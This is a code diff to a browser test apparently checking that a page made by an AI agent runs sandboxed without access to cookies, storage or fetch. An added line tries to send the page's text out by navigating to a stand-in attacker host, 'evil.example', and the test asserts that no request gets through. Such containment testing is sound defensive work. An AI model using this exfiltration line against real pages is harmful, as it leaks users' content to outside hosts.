@@ -146,8 +146,16 @@ test('a page the agent made runs without any rights', { skip }, async () => {
   await frame.locator('#o', { hasText: /shut|open/ }).waitFor();
   assert.equal(await frame.locator('#o').innerText(), 'all shut');
   await page.goto(`${fawn.base}/ui/threads/${thread}/view/${path('page.html')}`);
-  await page.waitForFunction(() => /shut|open/.test(document.querySelector('#o').textContent));
-  assert.doesNotMatch(await page.innerText('#o'), /cookie|storage|fetch/, 'opened alone it has no rights either');
+  const alone = page.frameLocator('iframe');
+  await alone.locator('#o', { hasText: /shut|open/ }).waitFor();
+  assert.doesNotMatch(await alone.locator('#o').innerText(), /cookie|storage|fetch/, 'opened alone it has no rights either');
+  let left = 0;
+  await page.route('https://evil.example/**', (r) => { left += 1; return r.abort(); });
+  await alone.locator('#o').evaluate(() => { location.href = 'https://evil.example/?' + document.body.innerText; });
+  await page.waitForFunction(() => true);
+  await page.waitForTimeout(300);
+  assert.equal(left, 0, 'opened alone it takes its content nowhere');
+  page.wrong.length = 0; // the browser says what it refused
   page.on('dialog', (d) => { page.wrong.push('dialog'); d.dismiss(); });
   const api = await fetch(`${fawn.base}/api/threads/${thread}/artifacts/${path('page.html')}`);
   assert.match(api.headers.get('content-disposition') ?? '', /attachment/);
